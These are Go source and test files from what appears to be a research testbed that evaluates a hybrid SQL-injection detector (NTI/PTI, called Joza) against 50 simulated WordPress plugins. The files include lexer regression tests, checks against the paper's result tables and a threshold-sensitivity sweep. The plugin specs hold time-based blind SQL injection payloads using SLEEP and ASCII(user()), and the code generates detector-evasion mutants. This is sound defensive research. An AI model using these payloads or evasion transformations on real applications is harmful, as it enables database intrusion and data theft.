			Prefix: quotedPrefix("id", "body", "comments", "author"), Suffix: "' LIMIT 5",
			Exploit:      fmt.Sprintf(quotedSleepF, "bob"),
			ExploitFalse: "bob' AND 3=4 AND SLEEP(3) -- -",
			Benign:       "bob",
		},
		{
			Name: "zotpress", Version: "4.4", Ref: "",
			Type:   sqlgen.DoubleBlind,
			Param:  "zot_id",
			Prefix: twoCol("id", "url", "links", "id"), Suffix: "",
			Exploit:      "1 AND IF(ASCII(user())>96, SLEEP(2), 0)",
			ExploitFalse: "1 AND IF(ASCII(user())>240, SLEEP(2), 0)", Benign: "1",
		},
	}
	return specs
}
