package testbed

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"joza/internal/evasion"
	"joza/internal/sqltoken"
)

// This file freezes the pre-dialect lexer — the single hard-coded MySQL
// Lex the detection results of Tables I-IV were produced with — verbatim
// (modulo seed* renames) and diffs it against the dialect-parameterized
// core over the full testbed corpus. The dialect refactor's contract is
// that the MySQL dialect is a refactoring, not a behavior change: every
// query the testbed can construct must lex to a bit-identical token
// stream. If this test fails, a detection result somewhere else may have
// silently shifted.

// seedKeywords is the frozen pre-refactor keyword set.
var seedKeywords = map[string]bool{
	"ADD": true, "ALL": true, "ALTER": true, "AND": true, "AS": true,
	"ASC": true, "BEGIN": true, "BETWEEN": true, "BY": true, "CASE": true,
	"COLLATE": true, "COLUMN": true, "COMMIT": true, "CREATE": true,
	"CROSS": true, "DATABASE": true, "DEFAULT": true, "DELETE": true,
	"DESC": true, "DISTINCT": true, "DROP": true, "ELSE": true, "END": true,
	"ESCAPE": true, "EXISTS": true, "FALSE": true, "FROM": true, "FULL": true,
	"GROUP": true, "HAVING": true, "IF": true, "IN": true, "INDEX": true, "INNER": true,
	"INSERT": true, "INTO": true, "IS": true, "JOIN": true, "KEY": true,
	"LEFT": true, "LIKE": true, "LIMIT": true, "NOT": true, "NULL": true,
	"OFFSET": true, "ON": true, "OR": true, "ORDER": true, "OUTER": true,
	"PRIMARY": true, "PROCEDURE": true, "REGEXP": true, "RIGHT": true,
	"ROLLBACK": true, "SELECT": true, "SET": true, "TABLE": true,
	"THEN": true, "TRUE": true, "TRUNCATE": true, "UNION": true,
	"UNIQUE": true, "UPDATE": true, "VALUES": true, "WHEN": true,
	"WHERE": true, "XOR": true, "DIV": true, "MOD": true, "RLIKE": true,
	"SOUNDS": true, "BINARY": true, "USING": true, "NATURAL": true,
	"INTERVAL": true, "PARTITION": true, "EXEC": true, "EXECUTE": true,
	"PREPARE": true, "DEALLOCATE": true, "GRANT": true, "REVOKE": true,
	"REPLACE": true, "LOAD": true, "OUTFILE": true, "DUMPFILE": true,
	"INFILE": true, "HANDLER": true, "CAST": true, "CONVERT": true,
}

// seedBuiltinFunctions is the frozen pre-refactor function set,
// including the USERNAME leak the dialect split prunes from the live
// MySQL table. It stays here because the seed treated USERNAME as a
// function only when followed by '(' — a sequence the testbed corpus
// never produces — so the live MySQL lexer must still agree on every
// corpus query.
var seedBuiltinFunctions = map[string]bool{
	"ABS": true, "ASCII": true, "AVG": true, "BENCHMARK": true,
	"BIN": true, "CEIL": true, "CEILING": true, "CHAR": true,
	"CHAR_LENGTH": true, "CHARACTER_LENGTH": true, "COALESCE": true,
	"CONCAT": true, "CONCAT_WS": true, "CONNECTION_ID": true,
	"COUNT": true, "CURDATE": true, "CURRENT_DATE": true,
	"CURRENT_TIME": true, "CURRENT_TIMESTAMP": true, "CURRENT_USER": true,
	"CURTIME": true, "DATABASE": true, "DATE": true, "DATE_ADD": true,
	"DATE_FORMAT": true, "DATE_SUB": true, "DAY": true, "ELT": true,
	"EXP": true, "EXTRACT": true, "EXTRACTVALUE": true, "FIELD": true,
	"FIND_IN_SET": true, "FLOOR": true, "FORMAT": true, "FOUND_ROWS": true,
	"GREATEST": true, "GROUP_CONCAT": true, "HEX": true, "HOUR": true,
	"IF": true, "IFNULL": true, "INSTR": true, "LAST_INSERT_ID": true,
	"LCASE": true, "LEAST": true, "LEFT": true, "LENGTH": true,
	"LOAD_FILE": true, "LOCATE": true, "LOWER": true, "LPAD": true,
	"LTRIM": true, "MAKE_SET": true, "MAX": true, "MD5": true,
	"MID": true, "MIN": true, "MINUTE": true, "MONTH": true, "NOW": true,
	"NULLIF": true, "OCT": true, "ORD": true, "PASSWORD": true, "PI": true,
	"POSITION": true, "POW": true, "POWER": true, "QUOTE": true,
	"RAND": true, "REPEAT": true, "REPLACE": true, "REVERSE": true,
	"RIGHT": true, "ROUND": true, "ROW_COUNT": true, "RPAD": true,
	"RTRIM": true, "SCHEMA": true, "SECOND": true, "SESSION_USER": true,
	"SHA": true, "SHA1": true, "SHA2": true, "SIGN": true, "SLEEP": true,
	"SPACE": true, "SQRT": true, "STRCMP": true, "SUBSTR": true,
	"SUBSTRING": true, "SUBSTRING_INDEX": true, "SUM": true,
	"SYSDATE": true, "SYSTEM_USER": true, "TRIM": true, "TRUNCATE": true,
	"UCASE": true, "UNHEX": true, "UNIX_TIMESTAMP": true, "UPDATEXML": true,
	"UPPER": true, "USER": true, "USERNAME": true, "UUID": true,
	"VERSION": true, "WEEK": true, "YEAR": true,
}

// seedLex is the frozen pre-refactor Lex: one hard-coded MySQL pass.
func seedLex(query string) []sqltoken.Token {
	lx := seedLexer{src: query}
	return lx.run()
}

type seedLexer struct {
	src  string
	pos  int
	toks []sqltoken.Token
}

func (l *seedLexer) run() []sqltoken.Token {
	l.toks = make([]sqltoken.Token, 0, len(l.src)/4+4)
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		switch {
		case c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f' || c == '\v':
			l.pos++
		case c == '\'' || c == '"':
			l.lexString(c)
		case c == '`':
			l.lexBacktick()
		case c == '#':
			l.lexLineComment(1)
		case c == '-' && l.peekAt(1) == '-':
			// MySQL requires whitespace (or end of input) after "--" for a
			// comment; otherwise it is the minus operator twice.
			if l.pos+2 >= len(l.src) || seedIsSpaceByte(l.src[l.pos+2]) {
				l.lexLineComment(2)
			} else {
				l.lexOperator()
			}
		case c == '/' && l.peekAt(1) == '*':
			l.lexBlockComment()
		case seedIsDigit(c), c == '.' && seedIsDigit(l.peekAt(1)):
			l.lexNumber()
		case seedIsIdentStart(c):
			l.lexWord()
		case c == '?':
			l.emit(sqltoken.KindPlaceholder, l.pos, l.pos+1, false)
			l.pos++
		case c == ':' && l.peekAt(1) == '=':
			l.lexOperator()
		case c == ':' && seedIsIdentStart(l.peekAt(1)):
			l.lexNamedPlaceholder()
		case c == '@':
			l.lexVariable()
		case seedIsPunct(c):
			l.emit(sqltoken.KindPunct, l.pos, l.pos+1, false)
			l.pos++
		case seedIsOperatorByte(c):
			l.lexOperator()
		default:
			l.emit(sqltoken.KindInvalid, l.pos, l.pos+1, false)
			l.pos++
		}
	}
	return l.toks
}

func (l *seedLexer) peekAt(off int) byte {
	if l.pos+off < len(l.src) {
		return l.src[l.pos+off]
	}
	return 0
}

func (l *seedLexer) emit(kind sqltoken.Kind, start, end int, unterminated bool) {
	l.toks = append(l.toks, sqltoken.Token{
		Kind:         kind,
		Text:         l.src[start:end],
		Start:        start,
		End:          end,
		Unterminated: unterminated,
	})
}

func (l *seedLexer) lexString(quote byte) {
	start := l.pos
	l.pos++ // opening quote
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		if c == '\\' && l.pos+1 < len(l.src) {
			l.pos += 2
			continue
		}
		if c == quote {
			// Doubled quote is an escaped quote inside the literal.
			if l.peekAt(1) == quote {
				l.pos += 2
				continue
			}
			l.pos++
			l.emit(sqltoken.KindString, start, l.pos, false)
			return
		}
		l.pos++
	}
	l.emit(sqltoken.KindString, start, l.pos, true)
}

func (l *seedLexer) lexBacktick() {
	start := l.pos
	l.pos++
	for l.pos < len(l.src) {
		if l.src[l.pos] == '`' {
			l.pos++
			l.emit(sqltoken.KindBacktick, start, l.pos, false)
			return
		}
		l.pos++
	}
	l.emit(sqltoken.KindBacktick, start, l.pos, true)
}

func (l *seedLexer) lexLineComment(markerLen int) {
	start := l.pos
	l.pos += markerLen
	for l.pos < len(l.src) && l.src[l.pos] != '\n' {
		l.pos++
	}
	l.emit(sqltoken.KindComment, start, l.pos, false)
}

func (l *seedLexer) lexBlockComment() {
	start := l.pos
	l.pos += 2
	for l.pos < len(l.src) {
		if l.src[l.pos] == '*' && l.peekAt(1) == '/' {
			l.pos += 2
			l.emit(sqltoken.KindComment, start, l.pos, false)
			return
		}
		l.pos++
	}
	l.emit(sqltoken.KindComment, start, l.pos, true)
}

func (l *seedLexer) lexNumber() {
	start := l.pos
	// Hexadecimal literal: 0x...
	if l.src[l.pos] == '0' && (l.peekAt(1) == 'x' || l.peekAt(1) == 'X') && seedIsHexDigit(l.peekAt(2)) {
		l.pos += 2
		for l.pos < len(l.src) && seedIsHexDigit(l.src[l.pos]) {
			l.pos++
		}
		l.emit(sqltoken.KindNumber, start, l.pos, false)
		return
	}
	for l.pos < len(l.src) && seedIsDigit(l.src[l.pos]) {
		l.pos++
	}
	if l.pos < len(l.src) && l.src[l.pos] == '.' {
		l.pos++
		for l.pos < len(l.src) && seedIsDigit(l.src[l.pos]) {
			l.pos++
		}
	}
	// Exponent part: 1e10, 2.5E-3.
	if l.pos < len(l.src) && (l.src[l.pos] == 'e' || l.src[l.pos] == 'E') {
		next := l.peekAt(1)
		if seedIsDigit(next) {
			l.pos += 2
			for l.pos < len(l.src) && seedIsDigit(l.src[l.pos]) {
				l.pos++
			}
		} else if (next == '+' || next == '-') && seedIsDigit(l.peekAt(2)) {
			l.pos += 3
			for l.pos < len(l.src) && seedIsDigit(l.src[l.pos]) {
				l.pos++
			}
		}
	}
	l.emit(sqltoken.KindNumber, start, l.pos, false)
}

func (l *seedLexer) lexWord() {
	start := l.pos
	for l.pos < len(l.src) && seedIsIdentByte(l.src[l.pos]) {
		l.pos++
	}
	word := l.src[start:l.pos]
	// A known function name directly followed by '(' (optionally with
	// whitespace) is a function token.
	if seedBuiltinFunctions[strings.ToUpper(word)] && l.nextNonSpaceIs('(') {
		l.emit(sqltoken.KindFunction, start, l.pos, false)
		return
	}
	if seedKeywords[strings.ToUpper(word)] {
		l.emit(sqltoken.KindKeyword, start, l.pos, false)
		return
	}
	l.emit(sqltoken.KindIdent, start, l.pos, false)
}

func (l *seedLexer) nextNonSpaceIs(want byte) bool {
	for i := l.pos; i < len(l.src); i++ {
		if seedIsSpaceByte(l.src[i]) {
			continue
		}
		return l.src[i] == want
	}
	return false
}

func (l *seedLexer) lexNamedPlaceholder() {
	start := l.pos
	l.pos++ // ':'
	for l.pos < len(l.src) && seedIsIdentByte(l.src[l.pos]) {
		l.pos++
	}
	l.emit(sqltoken.KindPlaceholder, start, l.pos, false)
}

func (l *seedLexer) lexVariable() {
	start := l.pos
	l.pos++ // '@'
	if l.pos < len(l.src) && l.src[l.pos] == '@' {
		l.pos++ // system variable @@
	}
	for l.pos < len(l.src) && seedIsIdentByte(l.src[l.pos]) {
		l.pos++
	}
	l.emit(sqltoken.KindVariable, start, l.pos, false)
}

func (l *seedLexer) lexOperator() {
	start := l.pos
	// Two-byte operators first.
	if l.pos+1 < len(l.src) {
		two := l.src[l.pos : l.pos+2]
		switch two {
		case "<=", ">=", "<>", "!=", "||", "&&", ":=", "<<", ">>":
			l.pos += 2
			l.emit(sqltoken.KindOperator, start, l.pos, false)
			return
		}
	}
	l.pos++
	l.emit(sqltoken.KindOperator, start, l.pos, false)
}

func seedIsDigit(c byte) bool { return c >= '0' && c <= '9' }

func seedIsHexDigit(c byte) bool {
	return seedIsDigit(c) || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F')
}

func seedIsIdentStart(c byte) bool {
	return c == '_' || c == '$' || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c >= 0x80
}

func seedIsIdentByte(c byte) bool { return seedIsIdentStart(c) || seedIsDigit(c) }

func seedIsSpaceByte(c byte) bool {
	return c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f' || c == '\v'
}

func seedIsPunct(c byte) bool {
	switch c {
	case '(', ')', ',', ';', '.':
		return true
	}
	return false
}

func seedIsOperatorByte(c byte) bool {
	switch c {
	case '=', '<', '>', '!', '+', '-', '*', '/', '%', '|', '&', '^', '~':
		return true
	}
	return false
}

// TestMySQLLexBitIdenticalToSeed diffs the dialect-parameterized MySQL
// lexer against the frozen seed lexer over everything the testbed can
// produce: every plugin's built query under the benign value, the
// original exploit, the blind false-condition twin, the NTI-targeted
// mutant and the Taintless PTI rewrite; the prose false-positive corpus
// through a quoted context; every trusted fragment text; and every raw
// payload on its own (the string NTI receives). Token streams must be
// bit-identical — kind, text, offsets and the Unterminated flag.
func TestMySQLLexBitIdenticalToSeed(t *testing.T) {
	lab, err := NewLab()
	if err != nil {
		t.Fatal(err)
	}

	queries := 0
	check := func(label, query string) {
		t.Helper()
		want := seedLex(query)
		got := sqltoken.Lex(query)
		if !slices.Equal(got, want) {
			t.Errorf("%s: token streams diverge for %q\n  seed:    %+v\n  dialect: %+v", label, query, want, got)
		}
		if viaDialect := sqltoken.MySQL.Lex(query); !slices.Equal(viaDialect, got) {
			t.Errorf("%s: package-level Lex and MySQL.Lex disagree for %q", label, query)
		}
		queries++
	}

	tl := evasion.NewTaintless(lab.Fragments)
	for _, s := range lab.Specs {
		payloads := []struct{ label, value string }{
			{"benign", s.Benign},
			{"exploit", s.Exploit},
		}
		if s.ExploitFalse != "" {
			payloads = append(payloads, struct{ label, value string }{"exploit-false", s.ExploitFalse})
		}
		mutant, _ := lab.ntiMutation(s)
		payloads = append(payloads, struct{ label, value string }{"nti-mutant", mutant})
		if rewritten, ok := tl.Evade(s.Exploit); ok {
			payloads = append(payloads, struct{ label, value string }{"pti-mutant", rewritten})
		}
		for _, p := range payloads {
			check(fmt.Sprintf("%s/%s/query", s.Name, p.label), lab.builtQuery(s, p.value))
			check(fmt.Sprintf("%s/%s/payload", s.Name, p.label), p.value)
		}
	}

	quoted := lab.SpecByName("gd-star-rating")
	if quoted == nil {
		t.Fatal("missing quoted spec for the prose corpus")
	}
	for i, prose := range proseCorpus {
		check(fmt.Sprintf("prose-%d", i), lab.builtQuery(quoted, prose))
	}

	for i, frag := range lab.Unprotected.FragmentTexts() {
		check(fmt.Sprintf("fragment-%d", i), frag)
	}

	if queries < 500 {
		t.Fatalf("only %d corpus queries diffed; the testbed should produce 500+", queries)
	}
	t.Logf("%d corpus queries, MySQL dialect bit-identical to the seed lexer", queries)
}
