package testbed

import (
	"strings"
	"testing"

	"joza/internal/sqlgen"
)

// sharedLab builds the lab once per test binary (construction is cheap but
// evaluation reuses it heavily).
var sharedLab *Lab

func lab(t *testing.T) *Lab {
	t.Helper()
	if sharedLab == nil {
		l, err := NewLab()
		if err != nil {
			t.Fatal(err)
		}
		sharedLab = l
	}
	return sharedLab
}

func TestTable1Classification(t *testing.T) {
	counts := TypeCounts(Specs())
	want := map[sqlgen.AttackType]int{
		sqlgen.Union:         15,
		sqlgen.StandardBlind: 17,
		sqlgen.DoubleBlind:   14,
		sqlgen.Tautology:     4,
	}
	for typ, n := range want {
		if counts[typ] != n {
			t.Errorf("%v = %d, want %d", typ, counts[typ], n)
		}
	}
	if len(Specs()) != 50 {
		t.Errorf("plugins = %d, want 50", len(Specs()))
	}
}

func TestSpecsUniqueNames(t *testing.T) {
	seen := map[string]bool{}
	for _, s := range Specs() {
		if seen[s.Name] {
			t.Errorf("duplicate plugin name %s", s.Name)
		}
		seen[s.Name] = true
	}
}

func TestAllOriginalExploitsWork(t *testing.T) {
	l := lab(t)
	for _, s := range l.Specs {
		baseline, err := l.Run(l.Unprotected, s, s.Benign)
		if err != nil {
			t.Fatalf("%s benign: %v", s.Name, err)
		}
		if baseline.DBError || baseline.Blocked {
			t.Fatalf("%s benign page: %+v", s.Name, baseline)
		}
		works, err := l.exploitWorks(s, s.Exploit, s.ExploitFalse, baseline)
		if err != nil {
			t.Fatalf("%s: %v", s.Name, err)
		}
		if !works {
			t.Errorf("%s: original exploit does not work", s.Name)
		}
	}
}

func TestBenignRequestsNotBlocked(t *testing.T) {
	// No false positives on the protected app for every plugin's benign
	// request.
	l := lab(t)
	for _, s := range l.Specs {
		page, err := l.Run(l.Protected, s, s.Benign)
		if err != nil {
			t.Fatalf("%s: %v", s.Name, err)
		}
		if page.Blocked {
			t.Errorf("%s: benign request blocked (false positive)", s.Name)
		}
		if page.DBError {
			t.Errorf("%s: benign request errored", s.Name)
		}
	}
}

func TestTable2Baseline(t *testing.T) {
	l := lab(t)
	res, err := l.EvaluateBaseline(40)
	if err != nil {
		t.Fatal(err)
	}
	if res.Total != 50 {
		t.Fatalf("total = %d", res.Total)
	}
	// Table II: NTI 49/50 (the base64 plugin evades), PTI 50/50.
	if res.NTIDetected != 49 {
		t.Errorf("NTI detected %d/50, want 49", res.NTIDetected)
	}
	if res.PTIDetected != 50 {
		t.Errorf("PTI detected %d/50, want 50", res.PTIDetected)
	}
	// SQLMap: 160 payloads, all detected by both.
	if res.SQLMapTotal != 160 {
		t.Errorf("SQLMap total = %d, want 160", res.SQLMapTotal)
	}
	if res.SQLMapNTI != res.SQLMapTotal {
		t.Errorf("SQLMap NTI %d/%d", res.SQLMapNTI, res.SQLMapTotal)
	}
	if res.SQLMapPTI != res.SQLMapTotal {
		t.Errorf("SQLMap PTI %d/%d", res.SQLMapPTI, res.SQLMapTotal)
	}
}

func TestTable4HybridEvaluation(t *testing.T) {
	l := lab(t)
	outcomes, err := l.Evaluate()
	if err != nil {
		t.Fatal(err)
	}
	if len(outcomes) != 50 {
		t.Fatalf("outcomes = %d", len(outcomes))
	}
	var ntiOrig, ptiOrig, ntiMutEvaded, adapted, jozaAll int
	for _, o := range outcomes {
		if !o.OriginalWorks {
			t.Errorf("%s: original does not work", o.Spec.Name)
		}
		if o.NTIOriginal {
			ntiOrig++
		}
		if o.PTIOriginal {
			ptiOrig++
		}
		if !o.NTIMutantWorks {
			t.Errorf("%s: NTI mutant does not work", o.Spec.Name)
		}
		if !o.NTIMutated {
			ntiMutEvaded++
		}
		if o.PTIAdapted {
			adapted++
			if o.Spec.RichVocabulary != true {
				t.Errorf("%s: adapted but not marked rich", o.Spec.Name)
			}
		} else if o.Spec.RichVocabulary {
			t.Errorf("%s: rich-vocabulary exploit not adapted by Taintless", o.Spec.Name)
		}
		if o.Joza {
			jozaAll++
		} else {
			t.Errorf("%s: Joza missed a working exploit form", o.Spec.Name)
		}
	}
	// Headline numbers.
	if ntiOrig != 49 {
		t.Errorf("NTI originals detected = %d, want 49", ntiOrig)
	}
	if ptiOrig != 50 {
		t.Errorf("PTI originals detected = %d, want 50", ptiOrig)
	}
	// The base64 plugin's "mutant" is the original (NTI already blind);
	// every NTI mutation evades NTI.
	if ntiMutEvaded != 50 {
		t.Errorf("NTI mutants evading = %d, want 50", ntiMutEvaded)
	}
	// Taintless adapts exactly the 13 rich-vocabulary exploits.
	if adapted != 13 {
		t.Errorf("Taintless adapted %d exploits, want 13", adapted)
	}
	if jozaAll != 50 {
		t.Errorf("Joza detected all forms for %d/50 plugins", jozaAll)
	}
}

func TestFigure6Forms(t *testing.T) {
	l := lab(t)
	fig, err := l.EvaluateFigure6("eventify")
	if err != nil {
		t.Fatal(err)
	}
	check := func(form string, nti, pti, jz bool) {
		t.Helper()
		got := fig.Detected[form]
		if got["NTI"] != nti || got["PTI"] != pti || got["Joza"] != jz {
			t.Errorf("%s: NTI=%v PTI=%v Joza=%v, want %v/%v/%v",
				form, got["NTI"], got["PTI"], got["Joza"], nti, pti, jz)
		}
	}
	// Figure 6: A original (both catch), B PTI-evading (NTI catches),
	// C NTI-evading (PTI catches), D combined (still caught).
	check("original", true, true, true)
	check("pti-evade", true, false, true)
	check("nti-evade", false, true, true)
	if !fig.Detected["combined"]["Joza"] {
		t.Error("combined evasion must still be caught by Joza")
	}
}

func TestCaseStudies(t *testing.T) {
	outcomes, err := EvaluateCases()
	if err != nil {
		t.Fatal(err)
	}
	if len(outcomes) != 3 {
		t.Fatalf("cases = %d", len(outcomes))
	}
	byName := map[string]*CaseOutcome{}
	for _, o := range outcomes {
		byName[o.Case.Name] = o
		if !o.Works {
			t.Errorf("%s: exploit does not work", o.Case.Name)
		}
		if !o.Joza {
			t.Errorf("%s: Joza missed the attack", o.Case.Name)
		}
	}
	// Section V-B: no single technique suffices across all three.
	if byName["Drupal"].NTI {
		t.Error("Drupal: NTI should miss (URL-encoded key)")
	}
	if !byName["Drupal"].PTI {
		t.Error("Drupal: PTI should catch")
	}
	if byName["Joomla"].NTI {
		t.Error("Joomla: NTI should miss (base64 object)")
	}
	if !byName["Joomla"].PTI {
		t.Error("Joomla: PTI should catch")
	}
	if byName["osCommerce"].PTI {
		t.Error("osCommerce: PTI should miss (OR/= in vocabulary)")
	}
	if !byName["osCommerce"].NTI {
		t.Error("osCommerce: NTI should catch")
	}
}

func TestStripSlashes(t *testing.T) {
	tests := map[string]string{
		`a\'b`:   "a'b",
		`a\\b`:   `a\b`,
		`a\"b`:   `a"b`,
		`plain`:  "plain",
		`trail\`: "trail",
		`x\0y`:   "x\x00y",
	}
	for in, want := range tests {
		if got := StripSlashes(in); got != want {
			t.Errorf("StripSlashes(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestSpecPHPSource(t *testing.T) {
	s := Specs()[0]
	src := s.PHPSource()
	if !strings.Contains(src, s.Prefix) {
		t.Errorf("source missing prefix: %s", src)
	}
	if !strings.Contains(src, "$_GET['"+s.Param+"']") {
		t.Errorf("source missing param: %s", src)
	}
	// Decode variants render their calls.
	for _, spec := range Specs() {
		src := spec.PHPSource()
		switch spec.Decode {
		case DecodeBase64:
			if !strings.Contains(src, "base64_decode") {
				t.Errorf("%s: missing base64_decode", spec.Name)
			}
		case DecodeStripSlashes:
			if !strings.Contains(src, "stripslashes") {
				t.Errorf("%s: missing stripslashes", spec.Name)
			}
		}
	}
}

func TestSpecByNameAndRequest(t *testing.T) {
	l := lab(t)
	s := l.SpecByName("adrotate")
	if s == nil {
		t.Fatal("adrotate missing")
	}
	req := l.Request(s, "PAYLOAD")
	if req.Get[s.Param] == "PAYLOAD" {
		t.Error("base64 plugin must transport-encode the payload")
	}
	if l.SpecByName("nope") != nil {
		t.Error("unknown name should be nil")
	}
}

func TestFragmentVocabulary(t *testing.T) {
	l := lab(t)
	// The global vocabulary must contain the Taintless-exploitable
	// lowercase connectors but not their uppercase counterparts.
	for _, want := range []string{" and ", " or ", " union ", " select ", " from ", "=", ">", "-"} {
		if !l.Fragments.Contains(want) {
			t.Errorf("vocabulary missing %q", want)
		}
	}
	for _, absent := range []string{" AND ", " OR ", " UNION ", "SLEEP", "version"} {
		if l.Fragments.Contains(absent) {
			t.Errorf("vocabulary must not contain %q", absent)
		}
	}
}
