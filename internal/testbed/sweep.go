package testbed

import (
	"fmt"
	"math/rand"

	"joza"
	"joza/internal/evasion"
	"joza/internal/webapp"
)

// SweepRow is one threshold's outcome in the NTI sensitivity study
// (Section III-A's "sensitivity to threshold value" weakness).
type SweepRow struct {
	Threshold float64
	// OriginalsDetected counts original exploits NTI flags at this
	// threshold (out of Total).
	OriginalsDetected int
	// TunedMutantsDetected counts NTI-evasion mutants *re-tuned by the
	// attacker to this threshold* that NTI still flags — the paper's
	// argument is that this stays ~0 at every threshold.
	TunedMutantsDetected int
	// FalsePositives counts benign requests blocked at this threshold.
	FalsePositives int
	// Total is the number of plugins evaluated.
	Total int
}

// ThresholdSweep evaluates NTI alone across thresholds: detection of the
// original exploits, detection of threshold-tuned evasion mutants, and
// false positives on benign requests. It demonstrates the paper's claim
// that no threshold fixes NTI: the attacker simply re-tunes the evasion.
func (l *Lab) ThresholdSweep(thresholds []float64) ([]SweepRow, error) {
	out := make([]SweepRow, 0, len(thresholds))
	for _, th := range thresholds {
		guard, err := joza.New(joza.WithoutPTI(), joza.WithNTIThreshold(th))
		if err != nil {
			return nil, err
		}
		app := l.buildApp(webapp.WithGuard(guard))
		row := SweepRow{Threshold: th, Total: len(l.Specs)}
		for _, s := range l.Specs {
			benign, err := app.Handle(s.Name, l.Request(s, s.Benign))
			if err != nil {
				return nil, fmt.Errorf("%s benign: %w", s.Name, err)
			}
			if benign.Blocked {
				row.FalsePositives++
			}
			orig, err := app.Handle(s.Name, l.Request(s, s.Exploit))
			if err != nil {
				return nil, fmt.Errorf("%s exploit: %w", s.Name, err)
			}
			if orig.Blocked {
				row.OriginalsDetected++
			}
			mutant := l.tunedNTIMutation(s, th)
			mut, err := app.Handle(s.Name, l.Request(s, mutant))
			if err != nil {
				return nil, fmt.Errorf("%s mutant: %w", s.Name, err)
			}
			if mut.Blocked {
				row.TunedMutantsDetected++
			}
		}
		out = append(out, row)
	}
	return out, nil
}

// tunedNTIMutation is ntiMutation with an attacker-chosen target
// threshold.
func (l *Lab) tunedNTIMutation(s *Spec, threshold float64) string {
	if s.Decode == DecodeBase64 {
		return s.Exploit
	}
	if s.Quoted {
		return evasion.WhitespacePadding(s.Exploit, threshold)
	}
	return evasion.QuoteStuffing(s.Exploit, threshold)
}

// buildApp constructs one more app configuration over the lab's database
// and plugins (used by the sweep, which needs per-threshold guards).
func (l *Lab) buildApp(opts ...webapp.AppOption) *webapp.App {
	base := []webapp.AppOption{
		webapp.WithCoreSource(coreSource),
		webapp.WithTransforms(webapp.TrimWhitespace, webapp.MagicQuotes),
	}
	app := webapp.NewApp(l.DB, append(base, opts...)...)
	for _, s := range l.Specs {
		app.Install(s.WebPlugin())
	}
	return app
}

// FormatSweep renders the sweep report.
func FormatSweep(rows []SweepRow) string {
	out := "NTI THRESHOLD SENSITIVITY (Section III-A)\n"
	out += fmt.Sprintf("%10s %18s %22s %16s\n",
		"Threshold", "Originals found", "Tuned mutants found", "False positives")
	for _, r := range rows {
		out += fmt.Sprintf("%10.2f %12d/%-5d %16d/%-5d %10d/%-5d\n",
			r.Threshold, r.OriginalsDetected, r.Total,
			r.TunedMutantsDetected, r.Total, r.FalsePositives, r.Total)
	}
	out += "(the attacker re-tunes the evasion to any deployed threshold; quote stuffing\n" +
		" alone caps at a 0.5 difference ratio, but whitespace padding — and any other\n" +
		" length-changing transformation — scales to arbitrary thresholds, and raising\n" +
		" the threshold toward 0.5 invites false positives on richer input workloads)\n"
	return out
}

// FPStudyResult summarizes the false-positive crawl of Section V-B.
type FPStudyResult struct {
	Requests  int
	Blocked   int
	DBErrors  int
	PerPlugin int
}

// FalsePositiveStudy drives randomized benign traffic — varying IDs for
// numeric endpoints, the known-good values for quoted/encoded endpoints —
// through the fully protected application and counts blocks. The paper
// reports zero false positives; so does this study (asserted by tests).
func (l *Lab) FalsePositiveStudy(perPlugin int, seed int64) (*FPStudyResult, error) {
	rng := rand.New(rand.NewSource(seed))
	res := &FPStudyResult{PerPlugin: perPlugin}
	for _, s := range l.Specs {
		for i := 0; i < perPlugin; i++ {
			value := s.Benign
			if !s.Quoted && s.Decode != DecodeBase64 {
				// Numeric endpoints accept any ID, including absent ones
				// (empty result pages are still benign).
				value = fmt.Sprint(rng.Intn(60))
			}
			page, err := l.Run(l.Protected, s, value)
			if err != nil {
				return nil, fmt.Errorf("%s: %w", s.Name, err)
			}
			res.Requests++
			if page.Blocked {
				res.Blocked++
			}
			if page.DBError {
				res.DBErrors++
			}
		}
	}
	return res, nil
}
