package testbed

import (
	"fmt"
	"strings"

	"joza"
	"joza/internal/fragments"
	"joza/internal/minidb"
	"joza/internal/webapp"
)

// coreSource is the pseudo-PHP source of the simulated WordPress core. Its
// literals form the base of the global fragment vocabulary. Deliberate
// properties (mirroring Table III and Section V):
//
//   - uppercase SQL statement skeletons appear only as full query strings,
//     so short uppercase attack tokens (UNION, SELECT, AND, OR) are not
//     individually coverable;
//   - a dynamic-condition builder contributes lowercase connector
//     fragments (" and ", " or ", " union ", " select ", " from ") plus
//     single-character operator fragments ("=", ">", "<", "-", ", ") — the
//     vocabulary Taintless exploits;
//   - no fragment covers SQL function names, NULL, parentheses-as-a-token,
//     or comment blocks.
const coreSource = `<?php
/* wp-core (simulated) — query construction snippets */
$q_post   = 'SELECT id, title FROM posts WHERE id=';
$q_new    = 'SELECT id, title FROM posts WHERE views>';
$q_opt    = 'SELECT name, value FROM options WHERE name=';
$q_cmt    = 'INSERT INTO comments (post_id, author, body) VALUES (';
$q_upd    = 'UPDATE options SET value=';
$q_where1 = ' WHERE 1 ';
$ord      = ' ORDER BY ';
$grp      = ' GROUP BY ';
$lim      = ' LIMIT ';
$cast     = 'CAST';
/* dynamic condition builder */
$and   = ' and ';
$or    = ' or ';
$un    = ' union ';
$sel   = ' select ';
$frm   = ' from ';
$sep   = ', ';
$eq    = '=';
$gt    = '>';
$lt    = '<';
$dash  = '-';
$hash  = '#';
$one   = '1';
$zero  = '0';
$quot  = '\'\'';
$tick  = '` + "``" + `';
`

// Lab is the assembled WP-SQLI-LAB environment.
type Lab struct {
	// DB is the shared backing database.
	DB *minidb.DB
	// Specs are the 50 plugin specifications.
	Specs []*Spec
	// Guard is the full hybrid guard over the global fragment set.
	Guard *joza.Guard
	// Fragments is the global trusted fragment set (core + all plugins).
	Fragments *fragments.Set

	// Unprotected, NTIOnly, PTIOnly and Protected are the four app
	// configurations the security evaluation exercises.
	Unprotected *webapp.App
	NTIOnly     *webapp.App
	PTIOnly     *webapp.App
	Protected   *webapp.App
}

// NewLab builds the full testbed: database schema and seed data, the 50
// plugins, the global fragment set, and the four app configurations.
func NewLab() (*Lab, error) {
	db := minidb.New("wordpress")
	if err := seedSchema(db); err != nil {
		return nil, err
	}
	lab := &Lab{DB: db, Specs: Specs()}

	build := func(opts ...webapp.AppOption) *webapp.App {
		base := []webapp.AppOption{
			webapp.WithCoreSource(coreSource),
